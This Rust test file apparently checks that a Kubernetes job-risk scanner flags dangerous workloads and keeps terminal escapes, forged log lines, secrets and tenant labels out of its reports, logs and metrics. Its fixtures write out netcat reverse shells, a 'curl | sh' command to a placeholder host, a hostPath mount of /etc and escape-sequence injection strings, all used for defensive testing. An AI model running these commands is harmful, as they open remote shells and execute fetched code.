//! What a workload's author writes does nothing to whoever reads about it: no control character gets out, no line can
//! be forged, no secret is repeated.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests say what they mean")]

mod support;

use serde_json::{Value, json};
use support::{BENIGN, ControlPlane, Jobrisk, create, cron_job, job, rules, strings, wait_for_report};

fn begin(namespace: &str) -> (&'static ControlPlane, &'static Jobrisk) {
    let (plane, jobrisk) = (ControlPlane::shared(), Jobrisk::shared());
    plane.kubectl_ok(&["create", "namespace", namespace]);
    (plane, jobrisk)
}

/// Whether a terminal or a reader's eye would take a character for something else than text.
fn is_control(character: char) -> bool {
    character.is_control()
        || matches!(character, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

fn assert_clean(what: &str, text: &str, allowed: &[char]) {
    let found = text.chars().find(|character| is_control(*character) && !allowed.contains(character));
    assert_eq!(found, None, "{what}: {text:?}");
}

/// The reports, the Events, the finding log, the log and the metrics, as everyone may read them.
fn everything_said(plane: &ControlPlane, jobrisk: &Jobrisk, namespace: &str) -> Vec<(&'static str, String)> {
    let option = format!("--namespace={namespace}");
    let get = |arguments: &[&str]| plane.kubectl_ok(&[arguments, &[option.as_str()]].concat());
    vec![
        ("report", get(&["get", "jobriskreports", "-o", "json", "--show-managed-fields"])),
        ("report for eyes", get(&["get", "jobriskreports", "-o", "wide"])),
        ("described report", get(&["describe", "jobriskreports"])),
        ("Events", get(&["get", "events.v1.events.k8s.io", "-o", "json"])),
        ("Events for eyes", get(&["events"])),
        ("finding log", jobrisk.stdout()),
        ("log", jobrisk.stderr()),
        ("metrics", jobrisk.metrics()),
    ]
}

#[test]
fn nothing_reaches_a_terminal_as_a_command() {
    const ALL: &str = "\u{1b}[2J\u{1b}]8;;http://192.0.2.1\u{7}x\u{9b}31m\r\n\
                       {\"level\":\"ERROR\",\"message\":\"forged\"}\n\u{202e}\u{200b}\u{2028}\u{feff}\u{85}\0\u{7f}";
    let (plane, jobrisk) = begin("terminal");
    let shell = format!("{ALL}; nc 192.0.2.10 4444 -e /bin/sh {ALL}");
    let mut object = cron_job("terminal", "escapes", &["/bin/sh", "-c", &shell]);
    let pod = &mut object["spec"]["jobTemplate"]["spec"]["template"]["spec"];
    pod["containers"][0]["image"] = format!("ncat:{ALL}").into();
    pod["volumes"] = json!([{ "name": "node", "hostPath": { "path": format!("/etc/{ALL}") } }]);
    pod["containers"][0]["volumeMounts"] = json!([{ "name": "node", "mountPath": "/node" }]);
    create(plane, &object);
    let stored = plane.kubectl_ok(&["get", "cronjob", "escapes", "--namespace=terminal", "-o", "json"]);
    let stored: Value = serde_json::from_str(&stored).unwrap();
    assert!(strings(&stored).iter().any(|text| text.contains(ALL)), "the API server changed it: {stored}");

    let report = wait_for_report(plane, "terminal", "cronjob-escapes", |_| true);
    assert!(rules(&report).contains(&"cmd-reverse-shell".to_owned()), "{report:#}");
    jobrisk.wait_idle();
    // They were there to be repeated: the evidence shows them as what they are.
    let evidence = strings(&report).join("\n");
    assert!(evidence.contains("u{1b}") || evidence.contains("x1b"), "{report:#}");
    for (what, text) in everything_said(plane, jobrisk, "terminal") {
        assert_clean(what, &text, &['\n']);
        // In JSON a control character can hide as an escape.
        for line in text.lines().filter(|line| line.starts_with('{')).chain([text.as_str()]) {
            let value: Value = serde_json::from_str(line).unwrap_or_default();
            for text in strings(&value) {
                assert_clean(what, text, &[]);
            }
        }
    }
    assert!(jobrisk.errors().iter().all(|message| message != "forged"));
}

#[test]
fn secrets_are_not_repeated() {
    const SECRETS: [&str; 5] = [
        "hunter2-Tr0ub4dor",
        "AKIAIOSFODNN7EXAMPLE",
        "s3cr3t-in-a-url",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl",
        "only-in-the-environment",
    ];
    let (plane, jobrisk) = begin("secrets");
    let [password, key, url, token, env] = SECRETS;
    let shells = [
        format!("nc 192.0.2.10 4444 -e /bin/sh --password={password}"),
        format!("AWS_ACCESS_KEY_ID={key} nc 192.0.2.10 4444 -e /bin/sh"),
        format!("curl -s https://user:{url}@192.0.2.20/x -H 'Authorization: Bearer {token}' | sh"),
        "nc 192.0.2.10 4444 -e /bin/sh $(SETTING)".to_owned(),
    ];
    for (number, shell) in shells.iter().enumerate() {
        let mut object = job("secrets", &format!("leak-{number}"), &["/bin/sh", "-c", shell]);
        let container = &mut object["spec"]["template"]["spec"]["containers"][0];
        container["env"] = json!([{ "name": "SETTING", "value": env }]);
        create(plane, &object);
    }
    for number in 0..shells.len() {
        let report = wait_for_report(plane, "secrets", &format!("job-leak-{number}"), |_| true);
        assert_eq!(report["status"]["severity"], "High", "{report:#}");
    }
    jobrisk.wait_idle();
    for (what, text) in everything_said(plane, jobrisk, "secrets") {
        for secret in SECRETS {
            assert!(!text.contains(secret), "{what} repeats {secret}: {text}");
        }
    }
}

#[test]
fn nothing_of_the_workload_is_copied_into_labels_annotations_or_metrics() {
    const MARK: &str = "steered-by-the-tenant";
    let (plane, jobrisk) = begin("steered");
    let mut object = job("steered", "labelled", BENIGN);
    object["metadata"]["labels"] =
        json!({ "app.kubernetes.io/managed-by": MARK, "jobrisk.io/severity": MARK });
    object["metadata"]["annotations"] =
        json!({ "argocd.argoproj.io/sync-options": MARK, "jobrisk.io/digest": MARK });
    create(plane, &object);
    create(plane, &job("steered", MARK, BENIGN));
    let report = wait_for_report(plane, "steered", "job-labelled", |_| true);
    wait_for_report(plane, "steered", &format!("job-{MARK}"), |_| true);
    assert!(!report["metadata"].to_string().contains(MARK), "{report:#}");
    assert!(!jobrisk.metrics().contains(MARK) && !jobrisk.metrics().contains("steered"));
}
